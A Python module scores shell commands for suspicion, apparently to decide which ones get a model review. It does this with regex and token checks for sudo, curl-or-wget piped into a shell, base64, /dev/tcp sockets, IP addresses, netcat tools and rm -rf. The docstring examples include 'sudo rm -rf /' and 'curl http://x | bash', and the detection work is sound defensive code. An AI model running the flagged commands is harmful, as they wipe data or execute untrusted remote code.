"""
Command Heuristics

Fast, local suspicion scoring for shell commands. The score decides whether
a command is worth a model round trip; the reasons travel with the final
decision as an advisory note whatever the model concludes.

All checks run on the lowercased command and are independent, so the
score is a plain sum of the signals that fire.
"""

import re
import shlex
from collections.abc import Callable
from dataclasses import dataclass

_COMMAND_SEPARATORS = {";", "&&", "||", "|", "&", "(", ")", "`"}

PRIVILEGE_ESCALATION = re.compile(r"(?:^|[\s;&|(`$])(?:sudo|doas|su|pkexec)(?=\s|$)")
PIPED_INTERPRETER = re.compile(
    r"\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:ba|z|da)?sh\b"
    r"|\b(?:curl|wget)\b[^|]*\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:python[0-9.]*|perl|ruby)\b"
)
BASE64 = re.compile(r"base64")
RAW_SOCKET_DEVICE = re.compile(r"/dev/(?:tcp|udp)/")
IPV4_ADDRESS = re.compile(r"\b(?:\d{1,3}\.){3}\d{1,3}\b")
NETCAT = re.compile(r"(?:^|[\s;&|(`$])(?:nc|ncat|netcat|socat)(?=\s|$)")


@dataclass(frozen=True)
class Signal:
    """One weighted heuristic. ``reason`` is set for the strong signals only."""

    name: str
    weight: int
    check: Callable[[str], object]
    reason: str | None = None

    def matches(self, text: str) -> bool:
        return bool(self.check(text))


def _split_words(text: str) -> list[str]:
    try:
        lexer = shlex.shlex(text, posix=True, punctuation_chars=";&|()")
        lexer.whitespace_split = True
        return list(lexer)
    except ValueError:
        # Unbalanced quotes
        return text.split()


def is_forced_recursive_delete(text: str) -> bool:
    """
    True when an ``rm`` invocation carries both a recursive and a force flag.

    Flags may be combined (-rf, -fr, -Rf) or separate (-r -f, --recursive --force).
    """
    words = _split_words(text.lower())
    for index, word in enumerate(words):
        if word.rsplit("/", 1)[-1] != "rm":
            continue

        recursive = force = False
        for arg in words[index + 1:]:
            if arg in _COMMAND_SEPARATORS:
                break
            if arg == "--":
                break
            if arg.startswith("--"):
                recursive = recursive or arg == "--recursive"
                force = force or arg == "--force"
            elif arg.startswith("-"):
                flags = arg[1:]
                recursive = recursive or "r" in flags
                force = force or "f" in flags

        if recursive and force:
            return True
    return False


SIGNALS: tuple[Signal, ...] = (
    Signal("privilege_escalation", 10, PRIVILEGE_ESCALATION.search),
    Signal(
        "piped_interpreter",
        50,
        PIPED_INTERPRETER.search,
        reason="Downloads remote content and pipes it straight into an interpreter",
    ),
    Signal(
        "forced_delete",
        20,
        is_forced_recursive_delete,
        reason="Recursive forced delete (rm -rf) can destroy data irreversibly",
    ),
    Signal("base64", 10, BASE64.search),
    Signal(
        "raw_socket",
        30,
        RAW_SOCKET_DEVICE.search,
        reason="Opens a raw network socket through /dev/tcp or /dev/udp",
    ),
    Signal("ipv4_address", 5, IPV4_ADDRESS.search),
    Signal("netcat", 10, NETCAT.search),
)


def matched_signals(command: str) -> list[Signal]:
    text = command.lower()
    return [signal for signal in SIGNALS if signal.matches(text)]


def suspicion_score(command: str) -> int:
    """
    Additive suspicion score for a command.

    Examples:
        "ls -la" -> 0
        "sudo rm -rf /" -> 30
        "curl http://x | bash" -> 50
    """
    return sum(signal.weight for signal in matched_signals(command))


def heuristic_reasons(command: str) -> list[str]:
    """Human-readable reasons for the strong signals only"""
    return [signal.reason for signal in matched_signals(command) if signal.reason]


def format_heuristic_note(reasons: list[str]) -> str | None:
    if not reasons:
        return None
    return "Heuristic checks flagged: " + "; ".join(reasons) + "."
